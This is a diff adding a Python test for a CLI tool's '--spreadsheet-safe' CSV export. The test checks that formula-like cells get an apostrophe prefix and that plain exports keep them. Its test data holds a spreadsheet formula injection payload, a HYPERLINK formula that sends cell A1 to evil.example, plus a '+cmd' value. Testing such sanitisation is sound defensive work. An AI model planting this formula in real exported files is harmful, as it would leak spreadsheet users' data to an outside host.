@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 import signal
@@ -1295,3 +1296,21 @@ class TestHostileText:
         assert result.exit_code == 2
         assert "deep.csv:2: attributes must be a JSON object" in result.stderr
         assert "Traceback" not in result.output
+
+    def test_spreadsheet_safe_csv_keeps_formulas_inert(self, project: Path) -> None:
+        """--spreadsheet-safe prefixes cells a spreadsheet would run; plain CSV keeps them."""
+        hid = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
+        args = ["start", hid, "--policy", "speed-to-lead", "--owner", "+cmd", "--started-at", T0]
+        assert run(*args).exit_code == 0
+        safe = list(
+            csv.DictReader(
+                run("export", "--format", "csv", "--spreadsheet-safe").stdout.splitlines()
+            )
+        )
+        assert (safe[0]["id"], safe[0]["owner"]) == ("'" + hid, "'+cmd")
+        assert safe[0]["started_at"] == "2026-11-23T14:00:00+00:00"
+        plain = list(csv.DictReader(run("export", "--format", "csv").stdout.splitlines()))
+        assert (plain[0]["id"], plain[0]["owner"]) == (hid, "+cmd")
+        assert "--format csv" in one_line_error(
+            CliRunner().invoke(cli, ["export", "--spreadsheet-safe"])
+        )
